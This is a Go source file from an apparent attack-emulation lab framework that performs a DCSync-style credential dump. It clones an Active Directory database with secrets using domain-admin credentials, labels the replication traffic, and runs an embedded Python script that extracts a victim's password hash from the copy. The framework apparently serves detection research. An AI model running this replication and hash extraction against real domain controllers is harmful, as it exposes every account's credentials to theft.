package dcsync

import (
	"context"
	"errors"
	"fmt"
	"strings"

	"tyto/lab"
	"tyto/lab/ad"
	"tyto/lab/label"
)

// clone replicates the whole directory.
func clone(ctx context.Context, r *lab.Run, s *ad.Station, victim *ad.User, hash string) error {
	d, admin := s.Domain, s.Domain.Admin()
	r.SetParam("scope", "all")
	r.SetParam("pause", "0")
	p, err := s.Start(ctx, lab.Command{Args: []string{
		"samba-tool", "drs", "clone-dc-database", strings.ToLower(d.Realm), "--include-secrets", "--targetdir=" + s.Dir() + "/clone",
		"--server=" + d.Name(d.DC), "-U", d.NetBIOS + `\` + admin.Name + "%" + admin.Password,
	}})
	if err != nil {
		return err
	}
	replication := lab.Of(p).And(lab.Service(d.DC, "tcp", d.DRSPort))
	r.Label(replication, label.CredentialDump)
	if err := p.Wait(ctx); err != nil {
		return fmt.Errorf("%w\n%s", err, p.Output())
	}
	r.Span(replication, p.Started(), r.Now(), label.StateDownload, "replication of the whole directory")
	return cloned(ctx, s, d, victim, hash)
}

// cloned looks for the hash in the copy of the directory.
func cloned(ctx context.Context, s *ad.Station, d *ad.Domain, victim *ad.User, hash string) error {
	const script = `import sys
from samba.auth import system_session
from samba.param import LoadParm
from samba.samdb import SamDB
lp = LoadParm()
lp.load(sys.argv[1] + "/etc/smb.conf")
print(SamDB(sys.argv[1] + "/private/sam.ldb", session_info=system_session(), lp=lp).search(sys.argv[2], expression="(sAMAccountName=%s)" % sys.argv[3], attrs=["unicodePwd"])[0]["unicodePwd"][0].hex())`
	out, err := s.Run(ctx, lab.Command{Args: []string{"/usr/bin/python3", "-c", script, s.Dir() + "/clone", d.Base, victim.Name}})
	if err != nil || strings.TrimSpace(string(out)) != hash {
		return errors.Join(fmt.Errorf("the copy has the hash %q of %s, want %s", out, victim.Name, hash), err)
	}
	return nil
}
